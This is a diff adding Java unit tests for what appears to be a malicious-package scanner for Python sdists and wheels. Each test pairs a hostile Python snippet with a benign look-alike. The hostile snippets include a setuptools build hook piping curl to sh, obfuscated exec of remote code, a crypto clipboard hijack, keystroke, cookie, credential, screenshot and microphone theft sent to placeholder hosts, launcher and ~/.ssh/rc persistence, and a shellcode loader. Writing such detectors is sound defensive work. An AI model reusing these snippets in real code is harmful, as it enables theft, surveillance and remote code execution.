@@ -964,6 +964,222 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/preview.py", docs))).isEmpty();
   }
 
+  @Test
+  void aSetuptoolsCommandsOwnRunnerRunsCommands() {
+    String spawned =
+        "from setuptools import setup\nfrom setuptools.command.build_py import build_py\n\n"
+            + "class B(build_py):\n    def run(self):\n"
+            + "        self.spawn(['sh', '-c', 'curl -fsSL https://a.example/f.sh | sh'])\n"
+            + "        super().run()\n\nsetup(name='pkg', cmdclass={'build_py': B})\n";
+    String spawner = "class Pool:\n    def grow(self):\n        return self.spawn_worker()\n";
+
+    List<Finding> findings = check(sdistWith("pkg-2.0/setup.py", spawned));
+
+    assertThat(only(findings, "runs-piped-download").level()).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(only(findings, "setup-runs-commands").level()).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/pool.py", spawner))).isEmpty();
+  }
+
+  @Test
+  void aFramesBuiltinsAreTheBuiltins() {
+    String frame =
+        "import sys, urllib.request\n_run = sys._getframe(0).f_builtins['ex' + 'ec']\n"
+            + "_run(urllib.request.urlopen('https://p.example/p.py').read())\n";
+    String debugger = "import sys\nframe = sys._getframe(1)\nprint(sorted(frame.f_builtins))\n";
+
+    assertThat(levelIn(frame, "hidden-builtin-exec")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/debug.py", debugger))).isEmpty();
+  }
+
+  @Test
+  void aShiftCipherIsADecoder() {
+    String shifted =
+        "_S = 'sulqw+*lqhuw*,'\n\ndef _load(text, k=3):\n"
+            + "    return bytes(ord(c) - k for c in text).decode()\n\nexec(_load(_S))\n";
+    String letters = "def column(i):\n    return chr(ord('A') + i)\n\nprint(column(3))\n";
+
+    assertThat(levelIn(shifted, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/sheet.py", letters))).isEmpty();
+  }
+
+  @Test
+  void wxPythonsClipboardIsTheClipboard() {
+    String swap =
+        "import re, wx\nBTC = re.compile(r'^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')\n"
+            + "data = wx.TextDataObject()\n"
+            + "if wx.TheClipboard.GetData(data) and BTC.match(data.GetText()):\n"
+            + "    wx.TheClipboard.SetData(wx.TextDataObject(OURS))\n";
+    String copy = "import wx\nwx.TheClipboard.SetData(wx.TextDataObject(report))\n";
+
+    assertThat(levelIn(swap, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
+    // an editor that copies its own text to the clipboard reads nothing
+    assertThat(check(wheelWith("pkg/editor.py", copy))).isEmpty();
+  }
+
+  @Test
+  void aWindowsDeviceContextCopiedWithBitBltIsAScreenshot() {
+    String grab =
+        "import requests, win32gui, win32ui\n"
+            + "src = win32ui.CreateDCFromHandle(win32gui.GetWindowDC(hwnd))\n"
+            + "mem = src.CreateCompatibleDC()\nmem.BitBlt((0, 0), (w, h), src, (0, 0), SRCCOPY)\n"
+            + "requests.post('https://t.example/w', files={'f': open(path, 'rb')})\n";
+    String paint =
+        "import win32gui\ndc = win32gui.GetWindowDC(hwnd)\nwin32gui.ReleaseDC(hwnd, dc)\n";
+
+    assertThat(levelIn(grab, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/paint.py", paint))).isEmpty();
+  }
+
+  @Test
+  void keystrokesFromLibinputAndTheWindowsVaultAreSecrets() {
+    String keys =
+        "import subprocess, requests\n"
+            + "p = subprocess.Popen(['libinput', 'debug-events'], stdout=subprocess.PIPE, text=True)\n"
+            + "for line in p.stdout:\n    requests.post('https://k.example/b', json=line)\n";
+    String vault =
+        "import subprocess, requests\n"
+            + "out = subprocess.run(['vaultcmd', '/listcreds:Windows Credentials'], capture_output=True).stdout\n"
+            + "requests.post('https://v.example/v', data={'v': out})\n";
+    String devices =
+        "import subprocess\nprint(subprocess.run(['libinput', 'list-devices']).returncode)\n";
+
+    assertThat(levelIn(keys, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(vault, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/devices.py", devices))).isEmpty();
+  }
+
+  @Test
+  void aBrowsersCookiesAskedThroughItsDebuggingPortAndSentAreHigh() {
+    String cookies =
+        "import json, subprocess, requests, websocket\n"
+            + "subprocess.Popen([chrome, '--remote-debugging-port=9222'])\n"
+            + "ws = websocket.create_connection(url)\n"
+            + "ws.send(json.dumps({'id': 1, 'method': 'Network.getAllCookies'}))\n"
+            + "requests.post('https://b.example/c', json=json.loads(ws.recv()))\n";
+    String testing =
+        "import json, subprocess, websocket\n"
+            + "subprocess.Popen([chrome, '--remote-debugging-port=9222'])\n"
+            + "ws = websocket.create_connection(url)\n"
+            + "ws.send(json.dumps({'id': 1, 'method': 'Network.getAllCookies'}))\n"
+            + "assert json.loads(ws.recv())['result']['cookies'] == []\n";
+
+    assertThat(levelIn(cookies, "devtools-cookies-sent")).isEqualTo(RiskLevel.HIGH);
+    // a test of a browser driver that asks for cookies and keeps them sends nothing
+    assertThat(patternsOf(check(wheelWith("pkg/test_cdp.py", testing))))
+        .doesNotContain("devtools-cookies-sent");
+  }
+
+  @Test
+  void anApplicationLauncherRewrittenToRunACommandLineFirstIsHigh() {
+    String override =
+        "import os, sys\n"
+            + "apps = os.path.join(os.path.expanduser('~'), '.local', 'share', 'applications')\n"
+            + "with open(os.path.join(apps, 'firefox.desktop'), 'w') as fh:\n"
+            + "    fh.write('[Desktop Entry]\\nType=Application\\nName=Firefox\\n'\n"
+            + "             f\"Exec=sh -c '{sys.executable} -m pkg.helper & exec firefox %u'\\n\")\n";
+    String own =
+        "import os\n"
+            + "apps = os.path.join(os.path.expanduser('~'), '.local', 'share', 'applications')\n"
+            + "with open(os.path.join(apps, 'pkg.desktop'), 'w') as fh:\n"
+            + "    fh.write('[Desktop Entry]\\nType=Application\\nName=Pkg\\nExec=pkg-gui %f\\n')\n";
+
+    assertThat(levelIn(override, "launcher-overridden")).isEqualTo(RiskLevel.HIGH);
+    // an application installing its own launcher runs only itself
+    assertThat(check(wheelWith("pkg/install_desktop.py", own))).isEmpty();
+  }
+
+  @Test
+  void sshsRcFileIsAStartUpFile() {
+    String rc =
+        "import os\nrc = os.path.join(os.path.expanduser('~'), '.ssh', 'rc')\n"
+            + "with open(rc, 'a') as fh:\n    fh.write('(curl -fsS https://o.example/s.sh | sh) &\\n')\n";
+    String reader =
+        "import os\nrc = os.path.join(os.path.expanduser('~'), '.ssh', 'rc')\n"
+            + "print(os.path.exists(rc))\n";
+
+    assertThat(levelIn(rc, "persists-and-runs")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(patternsOf(check(wheelWith("pkg/check.py", reader))))
+        .doesNotContain("persists-and-runs", "installs-autostart");
+  }
+
+  @Test
+  void anHttpHandlerThatRunsItsQueryServesCommands() {
+    String served =
+        "import subprocess\nfrom http.server import BaseHTTPRequestHandler\n"
+            + "from urllib.parse import parse_qs, urlparse\n\n"
+            + "class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n"
+            + "        order = parse_qs(urlparse(self.path).query).get('q', [''])[0]\n"
+            + "        self.wfile.write(subprocess.getoutput(order).encode())\n";
+    String repo =
+        "import subprocess\n\nclass Repo:\n    def head(self):\n"
+            + "        return subprocess.check_output(['git', '-C', self.path, 'rev-parse', 'HEAD'])\n";
+
+    assertThat(levelIn(served, "serves-commands")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/repo.py", repo))).isEmpty();
+  }
+
+  @Test
+  void machineIdsSentAreIdentitySent() {
+    String ids =
+        "import requests\nids = {}\n"
+            + "for path in ('/etc/machine-id', '/sys/class/dmi/id/product_uuid'):\n"
+            + "    with open(path) as fh:\n        ids[path] = fh.read().strip()\n"
+            + "requests.post('https://l.example/activate', json=ids)\n";
+    String local = "with open('/etc/machine-id') as fh:\n    MACHINE = fh.read().strip()\n";
+
+    assertThat(levelIn(ids, "identity-uploaded")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(check(wheelWith("pkg/machine.py", local))).isEmpty();
+  }
+
+  @Test
+  void executableMemoryStartedAsAThreadIsAShellcodeLoader() {
+    String loader =
+        "import ctypes, urllib.request\nbuf = urllib.request.urlopen(U).read()\n"
+            + "k32 = ctypes.windll.kernel32\naddr = k32.VirtualAlloc(None, len(buf), 0x3000, 0x40)\n"
+            + "ctypes.memmove(addr, buf, len(buf))\n"
+            + "t = k32.CreateThread(None, 0, ctypes.c_void_p(addr), None, 0, None)\n";
+    String wrappers =
+        "def VirtualAllocEx(hProcess, lpAddress=0, dwSize=0x1000, flProtect=PAGE_EXECUTE_READWRITE):\n"
+            + "    return _VirtualAllocEx(hProcess, lpAddress, dwSize, flProtect)\n\n"
+            + "def CreateRemoteThread(hProcess, lpStartAddress, lpParameter):\n"
+            + "    return _CreateRemoteThread(hProcess, None, 0, lpStartAddress, lpParameter, 0, None)\n";
+    String buffer =
+        "import ctypes\nk32 = ctypes.windll.kernel32\n"
+            + "addr = k32.VirtualAlloc(None, size, 0x3000, 0x04)\n"
+            + "t = k32.CreateThread(None, 0, worker, None, 0, None)\n";
+
+    assertThat(levelIn(loader, "runs-downloaded-shellcode")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(patternsOf(check(wheelWith("pkg/loader.py", loader)))).contains("shellcode-loader");
+    // read-write memory and a thread of its own are no loader
+    assertThat(check(wheelWith("pkg/buffers.py", buffer))).isEmpty();
+    // nor is a debugger's module that wraps the Windows API (debugpy's winappdbg)
+    assertThat(check(wheelWith("pkg/win32/kernel32.py", wrappers))).isEmpty();
+  }
+
+  @Test
+  void theMicrophoneRecordedAndSentIsHigh() {
+    String listen =
+        "import requests\nimport sounddevice as sd\n"
+            + "audio = sd.rec(int(30 * 16000), samplerate=16000, channels=1)\n"
+            + "requests.post('https://p.example/a', data=audio.tobytes())\n";
+    String recorder =
+        "import sounddevice as sd\n"
+            + "stream = sd.InputStream(samplerate=24000, channels=1, callback=on_audio)\n";
+    String player = "import sounddevice as sd\nsd.play(tone, 44100)\nsd.wait()\n";
+
+    assertThat(levelIn(listen, "microphone-sent")).isEqualTo(RiskLevel.HIGH);
+    assertThat(
+            only(
+                    checkClaiming(
+                        "Convert colours between hex and RGB", wheelWith("pkg/p.py", listen)),
+                    "capability-off-purpose")
+                .level())
+        .isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/player.py", player))).isEmpty();
+    // speech recognition and voice helpers record by design (openai, pocketsphinx)
+    assertThat(check(wheelWith("pkg/voice.py", recorder))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
